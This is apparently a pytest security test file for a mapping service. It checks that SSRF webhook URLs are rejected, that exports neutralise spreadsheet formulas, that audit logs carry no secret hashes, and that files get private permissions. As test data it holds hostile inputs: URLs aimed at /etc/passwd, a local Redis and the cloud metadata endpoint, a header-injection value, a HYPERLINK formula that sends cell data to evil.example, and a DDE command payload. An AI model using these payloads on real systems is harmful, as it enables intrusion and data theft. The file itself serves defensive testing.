"""What an outside probe of the service tried: webhook URLs that reach inside (SSRF), spreadsheet formulas
in exports, secret-derived values in the audit log, files other users could read."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import sys

import pytest

from service import audit
from service.store.audited import AUDITED, Audited
from service.store.db import session_scope
from service.store.feeds import FeedWebhook
from service.store.tables import Role
from tests.service.conftest import WEBHOOK_SECRET
from tests.service.test_releases import OMOP_LOINC, export, load_omop_vocabulary

FEED_CSV = b"person_id,unit,value\n1,mg/dL,90\n2,mg/dL,110\n3,mg/dL,95\n4,mg/dL,101\n"


def _feed(service) -> int:
    response = service.call("POST", "/feeds", Role.admin, data={"name": "labs"}, files={"file": ("ref.csv", FEED_CSV)})
    assert response.status_code == 201, response.text
    return response.json()["id"]


def _add_hook(service, feed: int, url: str, secret: str = WEBHOOK_SECRET):
    return service.call("POST", f"/feeds/{feed}/webhooks", Role.admin, json={"url": url, "secret": secret})


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_INFO",
        "http://169.254.169.254/latest/meta-data/",
        "https://169.254.169.254/latest/meta-data/",
        "http://localhost:5432/",
        "https://localhost:5432/",
        "https://127.0.0.1/hook",
        "https://10.0.0.8/hook",
        "https://[::1]/hook",
        "https://example.org/hook\r\nX-Injected: yes",
    ],
)
def test_webhook_urls_that_reach_inside_are_refused(sqlite_service, url):
    feed = _feed(sqlite_service)
    response = _add_hook(sqlite_service, feed, url)
    assert response.status_code == 422, response.text
    assert sqlite_service.call("GET", f"/feeds/{feed}/webhooks", Role.viewer).json() == []


def test_an_allowed_local_host_is_the_only_exception(sqlite_service, local_webhooks):
    feed = _feed(sqlite_service)
    assert _add_hook(sqlite_service, feed, "http://127.0.0.1:9/hook").status_code == 201
    for url in ("http://localhost:5432/", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.8/"):
        assert _add_hook(sqlite_service, feed, url).status_code == 422, url


@pytest.mark.parametrize("secret", ["s3cretvalue", "x" * 64, "abcdefgh" * 8])
def test_webhook_secrets_must_be_long_and_random(sqlite_service, local_webhooks, secret):
    response = _add_hook(sqlite_service, _feed(sqlite_service), "http://127.0.0.1:9/hook", secret)
    assert response.status_code == 422 and "secret" in response.text


def test_audit_events_carry_no_secret_derived_value(sqlite_service, local_webhooks):
    feed = _feed(sqlite_service)
    assert _add_hook(sqlite_service, feed, "http://127.0.0.1:9/hook").status_code == 201
    assert sqlite_service.call("POST", "/tokens", Role.admin, json={"name": "bob", "role": "viewer"}).status_code == 201
    hook_events = sqlite_service.call("GET", "/audit/events", params={"entity": "feed_webhook:1"}).json()
    everything = sqlite_service.call("GET", "/audit/events").text
    assert hook_events and all("secret_sha256" not in e["after"] for e in hook_events)
    assert "secret_sha256" not in everything and "token_hash" not in everything
    with session_scope(sqlite_service.engine) as session:
        stored = [e.after for e in session.exec(audit.select(audit.AuditEvent))]
        assert not any("token_hash" in a or "secret_sha256" in a for a in stored)  # not just hidden on the way out
        result = audit.verify(session)
    assert result.ok, result.problems


def test_the_rest_of_a_row_is_still_verified(sqlite_service, local_webhooks):
    feed = _feed(sqlite_service)
    assert _add_hook(sqlite_service, feed, "http://127.0.0.1:9/hook").status_code == 201
    with session_scope(sqlite_service.engine) as session:
        session.exec(audit.text("UPDATE feed_webhook SET url = 'https://attacker.example/' WHERE id = 1"))
    with session_scope(sqlite_service.engine) as session:
        result = audit.verify(session)
    assert not result.ok and "feed_webhook:1 no longer matches" in " ".join(result.problems)


def test_events_an_older_crosswalk_wrote_with_secret_hashes_still_verify_and_are_not_shown(
    sqlite_service, local_webhooks, monkeypatch
):
    for table in (FeedWebhook, *(t for t, spec in AUDITED.items() if spec.kind == "token")):
        monkeypatch.setitem(AUDITED, table, Audited(AUDITED[table].kind, AUDITED[table].children))  # nothing hidden
    feed = _feed(sqlite_service)
    assert _add_hook(sqlite_service, feed, "http://127.0.0.1:9/hook").status_code == 201
    with session_scope(sqlite_service.engine) as session:
        assert any("secret_sha256" in e.after for e in session.exec(audit.select(audit.AuditEvent)))  # as before
    monkeypatch.undo()  # this crosswalk reads the old store
    with session_scope(sqlite_service.engine) as session:
        result = audit.verify(session)
    assert result.ok, result.problems
    shown = sqlite_service.call("GET", "/audit/events").text
    assert "secret_sha256" not in shown and "token_hash" not in shown


# -- spreadsheet formulas ---------------------------------------------------------------------------
FORMULA_CSV = (
    b"source_code,source_text,frequency\n"
    b'GLU,"=HYPERLINK(""http://evil.example/?""&A1,""Glucose"")",900\n'
    b'NA,"\t=1+2 sodium serum",800\n'
    b"K,@SUM(A1:A9) potassium serum,780\n"
    b"HBA1C,-2+3 hemoglobin a1c,450\n"
    b"-7,Sodium serum plus,10\n"
)


@pytest.fixture
def formula_release(sqlite_service, tmp_path) -> int:
    service = sqlite_service
    project = service.project()
    assert service.import_csv(project, FORMULA_CSV).status_code == 200
    service.suggest(project)
    service.decide(project, "GLU", action="remap", target_code="2345-7", comment="=cmd|' /C calc'!A0")
    service.decide(project, "NA", action="remap", target_code="2951-2", comment="+SUM(1)")
    service.decide(project, "K", action="remap", target_code="2823-3")
    service.decide(project, "HBA1C", action="remap", target_code="4548-4")
    service.decide(project, "-7", action="remap", target_code="2951-2")
    assert service.call("POST", f"/projects/{project}/releases", Role.reviewer, json={}).status_code == 201
    load_omop_vocabulary(service, tmp_path, OMOP_LOINC)
    return project


def _cells(text: str, delimiter: str) -> list[str]:
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    return [cell for row in csv.reader(io.StringIO("\n".join(lines)), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(("fmt", "delimiter"), [("usagi", ","), ("omop", ","), ("sssom", "\t")])
def test_spreadsheet_exports_neutralise_formula_cells(sqlite_service, formula_release, fmt, delimiter):
    cells = _cells(export(sqlite_service, formula_release, 1, fmt), delimiter)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-7" and c != "-1")]
    assert dangerous == []
    assert "'=1+2 sodium serum" in cells  # imported as "=1+2 ..." (the tab trimmed): still neutralised
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and "'@SUM(A1:A9) potassium serum" in cells
    assert "'-2+3 hemoglobin a1c" in cells
    if fmt != "sssom":  # SSSOM names subjects as CURIEs (SRC:-7)
        assert "-7" in cells  # a plain number is data, never a formula: kept as it is


def test_json_exports_keep_every_value_exact(sqlite_service, formula_release):
    resource = json.loads(export(sqlite_service, formula_release, 1, "fhir-r4"))
    elements = resource["group"][0]["element"]
    texts = {e["code"]: e.get("display") for e in elements}
    assert texts["GLU"].startswith("=HYPERLINK(") and texts["NA"] == "=1+2 sodium serum"
    comments = [t.get("comment") for e in elements for t in e["target"]]
    assert "=cmd|' /C calc'!A0" in comments


# -- files ------------------------------------------------------------------------------------------
def test_webhook_secrets_are_private_from_creation_whatever_the_umask(sqlite_service, local_webhooks):
    previous = os.umask(0o022)
    try:
        feed = _feed(sqlite_service)
        assert _add_hook(sqlite_service, feed, "http://127.0.0.1:9/hook").status_code == 201
    finally:
        os.umask(previous)
    home = sqlite_service.settings.home
    [secret] = list(home.rglob("*.secret"))
    assert secret.read_text() == WEBHOOK_SECRET
    kept = [p for p in (home / "monitoring").rglob("*") if p.is_file()]
    assert kept and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in kept)  # the reference upload too


def test_the_cli_makes_its_home_private_and_everything_it_writes(tmp_path, monkeypatch, capsys):
    from service.cli import main
    from service.settings import get_settings

    home = tmp_path / "home"
    home.mkdir(mode=0o755)
    home.chmod(0o755)
    monkeypatch.setenv("CROSSWALK_HOME", str(home))
    monkeypatch.setattr(sys, "argv", ["crosswalk", "--help"])
    get_settings.cache_clear()
    previous = os.umask(0o022)
    try:
        with pytest.raises(SystemExit):
            main()
        umask = os.umask(0o022)
    finally:
        os.umask(previous)
        get_settings.cache_clear()
    assert umask == 0o077 and stat.S_IMODE(home.stat().st_mode) == 0o700
    assert "was open to other users (mode 755); now 0700" in capsys.readouterr().err
